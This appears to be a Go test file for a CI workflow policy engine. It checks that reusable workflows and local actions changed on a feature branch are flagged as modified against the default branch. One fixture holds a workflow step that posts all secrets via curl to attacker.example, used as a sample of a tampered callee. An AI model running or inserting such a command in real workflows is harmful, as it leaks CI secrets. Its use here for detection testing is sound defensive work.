package resolve

import (
	"context"
	"strings"
	"testing"

	"github.com/runpolicy/runpolicy/engine/input"
)

const mainSHA = "2222222222222222222222222222222222222222"

// branchDoc is workflowDoc for a run on branch feature whose workflow file
// is the default branch's copy: only its callees can be modified.
func branchDoc(t testing.TB, path string, src []byte) *input.Document {
	t.Helper()
	f, err := input.Parse(path, src)
	if err != nil {
		t.Fatal(err)
	}
	c := input.LocalContext(path)
	c.Repository = input.Repository{FullName: "acme/api", Owner: "acme", Name: "api", DefaultBranch: "main"}
	c.Run.HeadSHA, c.Run.Branch, c.Run.IsDefaultBranch = headSHA, "feature", false
	sum := f.SHA256
	c.DefaultBranchKnown, c.DefaultBranchSHA256 = true, &sum
	return input.Build(f, c)
}

// modifiedRow is the part of a ModifiedFile the tests compare.
type modifiedRow struct {
	Path, Uses, Change, Reason string // Reason: a substring
	Digest                     bool   // SHA256 is set
}

func checkModified(t *testing.T, wf input.Workflow, want []modifiedRow) {
	t.Helper()
	if wf.Modified != (len(want) > 0) {
		t.Errorf("workflow.modified = %v with modified files %+v", wf.Modified, wf.ModifiedFiles)
	}
	if len(wf.ModifiedFiles) != len(want) {
		t.Fatalf("modified files = %+v, want %+v", wf.ModifiedFiles, want)
	}
	for i, w := range want {
		g := wf.ModifiedFiles[i]
		if g.Path != w.Path || g.Uses != w.Uses || g.Change != w.Change || !strings.Contains(g.Reason, w.Reason) ||
			(w.Reason == "" && g.Reason != "") || (g.SHA256 != nil) != w.Digest {
			t.Errorf("modified_files[%d] = %+v (sha256 set %v), want %+v", i, g, g.SHA256 != nil, w)
		}
	}
}

const (
	reusableCall = "on: push\njobs:\n  call:\n    uses: ./.github/workflows/reusable.yml\n    secrets: inherit\n"
	reusable     = "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
	nodeAction   = "runs:\n  using: node20\n  main: dist/index.js\n  post: post.js\n"
	exfiltrating = "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://attacker.example\n"
)

// A callee of the run's repository is compared with the default branch's
// copy: a caller that did not change is modified when what it runs did.
func TestModifiedLocalCallees(t *testing.T) {
	const wf = ".github/workflows/reusable.yml"
	const action = ".github/actions/build"
	tests := []struct {
		name       string
		caller     string
		head, base map[string]string // path → content at headSHA and on main
		noMain     bool              // the default branch cannot be found
		want       []modifiedRow
	}{
		{
			name: "unchanged reusable workflow", caller: reusableCall,
			head: map[string]string{wf: reusable}, base: map[string]string{wf: reusable},
		},
		{
			name: "modified reusable workflow", caller: reusableCall,
			head: map[string]string{wf: exfiltrating}, base: map[string]string{wf: reusable},
			want: []modifiedRow{{Path: wf, Uses: "./" + wf, Change: "differs", Digest: true}},
		},
		{
			name: "new reusable workflow", caller: reusableCall,
			head: map[string]string{wf: exfiltrating},
			want: []modifiedRow{{Path: wf, Uses: "./" + wf, Change: "new", Digest: true}},
		},
		{
			name: "unreadable reusable workflow is not unmodified", caller: reusableCall,
			base: map[string]string{wf: reusable},
			want: []modifiedRow{{Path: wf, Uses: "./" + wf, Change: "unknown", Reason: "unreadable at the head commit"}},
		},
		{
			name: "invalid reusable workflow is not unmodified", caller: reusableCall,
			head: map[string]string{wf: "jobs: [\n"}, base: map[string]string{wf: reusable},
			want: []modifiedRow{{Path: wf, Uses: "./" + wf, Change: "unknown", Reason: "invalid"}},
		},
		{
			name: "no default branch to compare with", caller: reusableCall, noMain: true,
			head: map[string]string{wf: reusable}, base: map[string]string{wf: reusable},
			want: []modifiedRow{{Path: wf, Uses: "./" + wf, Change: "unknown", Reason: "default branch main of acme/api not found", Digest: true}},
		},
		{
			name: "modified composite action", caller: string(steps("./" + action)),
			head: map[string]string{action + "/action.yml": string(composite("acme/evil@v1"))},
			base: map[string]string{action + "/action.yml": string(composite("acme/lint@v1"))},
			want: []modifiedRow{{Path: action + "/action.yml", Uses: "./" + action, Change: "differs", Digest: true}},
		},
		{
			name: "action.yml renamed action.yaml, same content", caller: string(steps("./" + action)),
			head: map[string]string{action + "/action.yml": string(composite("acme/lint@v1"))},
			base: map[string]string{action + "/action.yaml": string(composite("acme/lint@v1"))},
		},
		{
			name: "modified action behind an unchanged reusable workflow", caller: reusableCall,
			head: map[string]string{wf: "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./" + action + "\n",
				action + "/action.yml": string(composite("acme/evil@v1"))},
			base: map[string]string{wf: "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./" + action + "\n",
				action + "/action.yml": string(composite("acme/lint@v1"))},
			want: []modifiedRow{{Path: action + "/action.yml", Uses: "./" + action, Change: "differs", Digest: true}},
		},
		{
			name: "self-repository reference", caller: string(steps("$/" + action)),
			head: map[string]string{action + "/action.yml": string(composite("acme/evil@v1"))},
			base: map[string]string{action + "/action.yml": string(composite("acme/lint@v1"))},
			want: []modifiedRow{{Path: action + "/action.yml", Uses: "$/" + action, Change: "differs", Digest: true}},
		},
		{
			name: "JavaScript action: same metadata, modified entry point", caller: string(steps("./" + action)),
			head: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "steal()", action + "/post.js": "cleanup()"},
			base: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "build()", action + "/post.js": "cleanup()"},
			want: []modifiedRow{{Path: action + "/dist/index.js", Uses: "./" + action, Change: "differs", Digest: true}},
		},
		{
			name: "JavaScript action: missing entry point is not unmodified", caller: string(steps("./" + action)),
			head: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "build()"},
			base: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "build()", action + "/post.js": "cleanup()"},
			want: []modifiedRow{{Path: action + "/post.js", Uses: "./" + action, Change: "unknown", Reason: "unreadable at the head commit"}},
		},
		{
			name: "JavaScript action: entry point outside the repository", caller: string(steps("./" + action)),
			head: map[string]string{action + "/action.yml": "runs:\n  using: node20\n  main: ../../../../x.js\n"},
			base: map[string]string{action + "/action.yml": "runs:\n  using: node20\n  main: ../../../../x.js\n"},
			want: []modifiedRow{{Path: "../../../../x.js", Uses: "./" + action, Change: "unknown", Reason: "outside the repository"}},
		},
		{
			name: "Dockerfile action: modified Dockerfile", caller: string(steps("./" + action)),
			head: map[string]string{action + "/action.yml": "runs:\n  using: docker\n  image: Dockerfile\n", action + "/Dockerfile": "FROM evil\n"},
			base: map[string]string{action + "/action.yml": "runs:\n  using: docker\n  image: Dockerfile\n", action + "/Dockerfile": "FROM alpine\n"},
			want: []modifiedRow{{Path: action + "/Dockerfile", Uses: "./" + action, Change: "differs", Digest: true}},
		},
		{
			name: "the same callee used twice is one entry", caller: string(steps("./"+action, "./"+action)),
			head: map[string]string{action + "/action.yml": string(composite("acme/evil@v1"))},
			want: []modifiedRow{{Path: action + "/action.yml", Uses: "./" + action, Change: "new", Digest: true}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			gh := newFake()
			gh.node("acme/evil@v1", "acme/lint@v1")
			for p, c := range tt.head {
				gh.file("acme/api", p, headSHA, []byte(c))
			}
			for p, c := range tt.base {
				gh.file("acme/api", p, mainSHA, []byte(c))
			}
			if !tt.noMain {
				gh.tag("acme/api", "main", mainSHA)
			}
			doc := branchDoc(t, ".github/workflows/ci.yml", []byte(tt.caller))
			out := resolve(t, New(gh), doc)
			checkModified(t, out.Workflow, tt.want)
			if doc.Workflow.Modified || len(doc.Workflow.ModifiedFiles) != 0 {
				t.Errorf("the input document was changed: %+v", doc.Workflow)
			}
		})
	}
}

// On the default branch the callees are the default branch's: nothing is
// compared, nothing extra fetched.
func TestDefaultBranchCalleesNotCompared(t *testing.T) {
	gh := newFake()
	gh.file("acme/api", ".github/workflows/reusable.yml", headSHA, []byte(exfiltrating))
	out := resolve(t, New(gh), workflowDoc(t, ".github/workflows/ci.yml", []byte(reusableCall)))
	checkModified(t, out.Workflow, nil)
	if out.Resolution.Fetches != 1 {
		t.Errorf("fetches = %d, want 1 (the callee at the head commit)", out.Resolution.Fetches)
	}
}

// The default branch's copies are cached by commit: a second run of the
// same callee costs the branch lookup only, and the comparison is counted
// in resolution.fetches.
func TestModifiedCalleeFetchesAndCache(t *testing.T) {
	gh := newFake()
	gh.file("acme/api", ".github/workflows/reusable.yml", headSHA, []byte(exfiltrating))
	gh.file("acme/api", ".github/workflows/reusable.yml", mainSHA, []byte(reusable))
	gh.tag("acme/api", "main", mainSHA)
	r := New(gh)
	doc := branchDoc(t, ".github/workflows/ci.yml", []byte(reusableCall))
	first := resolve(t, r, doc)
	if first.Resolution.Fetches != 3 {
		t.Errorf("first run: fetches = %d, want 3 (callee at head, main's commit, callee on main)", first.Resolution.Fetches)
	}
	second := resolve(t, r, doc)
	if second.Resolution.Fetches != 1 {
		t.Errorf("second run: fetches = %d, want 1 (main's commit; both copies cached)", second.Resolution.Fetches)
	}
	for _, out := range []*input.Document{first, second} {
		checkModified(t, out.Workflow, []modifiedRow{{Path: ".github/workflows/reusable.yml", Uses: "./.github/workflows/reusable.yml", Change: "differs", Digest: true}})
	}
}

// A fetch limit reached before the comparison leaves the callee unknown,
// hence modified.
func TestModifiedCalleeFetchLimit(t *testing.T) {
	gh := newFake()
	gh.file("acme/api", ".github/workflows/reusable.yml", headSHA, []byte(reusable))
	gh.file("acme/api", ".github/workflows/reusable.yml", mainSHA, []byte(reusable))
	gh.tag("acme/api", "main", mainSHA)
	out := resolve(t, New(gh, WithMaxFetches(1)), branchDoc(t, ".github/workflows/ci.yml", []byte(reusableCall)))
	checkModified(t, out.Workflow, []modifiedRow{{Path: ".github/workflows/reusable.yml", Uses: "./.github/workflows/reusable.yml", Change: "unknown", Reason: "fetch limit of 1", Digest: true}})
	checkResolution(t, out.Resolution, false, LimitFetches)
}

// A GitHub failure while reading the default branch's copy fails the
// resolution, to be retried, rather than deciding without it.
func TestModifiedCalleeGitHubFailure(t *testing.T) {
	gh := newFake()
	gh.file("acme/api", ".github/workflows/reusable.yml", headSHA, []byte(reusable))
	gh.tag("acme/api", "main", mainSHA)
	f := failingBase{gh}
	if _, err := New(f).Resolve(context.Background(), branchDoc(t, ".github/workflows/ci.yml", []byte(reusableCall))); err == nil || !strings.Contains(err.Error(), "502") {
		t.Fatalf("Resolve = %v, want the 502", err)
	}
}

// failingBase answers 502 for every file at mainSHA.
type failingBase struct{ *fakeGitHub }

func (f failingBase) Content(ctx context.Context, owner, repo, path, ref string) ([]byte, error) {
	if ref == mainSHA {
		return nil, errBadGateway
	}
	return f.fakeGitHub.Content(ctx, owner, repo, path, ref)
}

var errBadGateway = errorString("502 Bad Gateway")

type errorString string

func (e errorString) Error() string { return string(e) }

// WithLocalOnly reads the repository's own files and leaves other
// references as they are: not looked inside, not marked.
func TestLocalOnly(t *testing.T) {
	gh := newFake()
	gh.file("acme/api", ".github/actions/changed/action.yml", headSHA, composite("tj-actions/changed-files@v44", "actions/setup-node@v4"))
	gh.node("tj-actions/changed-files@v44", "actions/checkout@v4", "actions/setup-node@v4")
	doc := workflowDoc(t, ".github/workflows/ci.yml", steps("actions/checkout@v4", "./.github/actions/changed"))
	out := resolve(t, New(gh, WithLocalOnly()), doc)
	checkRows(t, out.Uses, []row{
		{Raw: "actions/checkout@v4", Kind: "action", Job: "build", Step: 0, Line: 6},
		{Raw: "./.github/actions/changed", Kind: "local", Job: "build", Step: 1, Line: 7},
		{Raw: "tj-actions/changed-files@v44", Kind: "action", Job: "build", Step: 1, Line: 7, Via: "./.github/actions/changed"},
		{Raw: "actions/setup-node@v4", Kind: "action", Job: "build", Step: 1, Line: 7, Via: "./.github/actions/changed"},
	})
	checkResolution(t, out.Resolution, false)
	if n := gh.calls(); n != 1 {
		t.Errorf("fetcher calls = %d, want 1 (the local action only): %v", n, gh.log)
	}
}
